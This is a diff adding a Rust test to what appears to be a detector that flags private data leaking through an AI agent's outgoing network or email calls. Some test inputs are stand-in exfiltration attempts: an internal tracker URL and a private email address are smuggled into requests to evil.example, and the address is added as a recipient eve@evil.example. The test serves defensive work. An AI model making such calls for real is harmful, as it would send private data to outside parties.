@@ -134,6 +134,32 @@ fn a_file_in_base64_where_a_tool_takes_one() {
     check(OPEN, json!({"path": "a.go", "content": HEXLOWER.encode(text.as_bytes())}), Some(Confidence::Likely));
 }
 
+/// A file of variables says where a service is, and a list who gets the minutes: to go there is what it is for.
+#[test]
+fn an_address_is_used_where_a_call_goes() {
+    let text = "API=https://tracker.internal.firm.example/rest/api/2/issues\nOWNER=margarethe.brandstetter@accounting.firm.example\n";
+    let check = |arguments: Value, want: Confidence| {
+        let mut session = Session::new();
+        session.result("files", PRIVATE, text);
+        let found = session.call("net", Sink::External, &arguments);
+        assert_eq!(found.iter().map(|f| f.confidence).max(), Some(want), "{arguments}: {found:?}");
+    };
+    let (url, owner) =
+        ("https://tracker.internal.firm.example/rest/api/2/issues", "margarethe.brandstetter@accounting.firm.example");
+    check(json!({"url": url, "body": "hello"}), Confidence::Possible);
+    check(json!({"url": format!("{url}/17/comments"), "body": "hello"}), Confidence::Possible);
+    check(json!({"to": ["ana@firm.example", owner]}), Confidence::Possible);
+    // What stands elsewhere, or behind another host.
+    check(json!({"url": url, "body": format!("see {url}")}), Confidence::Likely);
+    check(json!({"note": owner}), Confidence::Likely);
+    check(json!({"to": format!("{owner}, eve@evil.example")}), Confidence::Likely);
+    check(
+        json!({"url": format!("https://evil.example/tracker.internal.firm.example/rest/api/2/issues")}),
+        Confidence::Likely,
+    );
+    check(json!({"url": format!("https://evil.example/?to={owner}")}), Confidence::Likely);
+}
+
 #[test]
 fn secrets_are_known_in_every_dress() {
     let token = token();
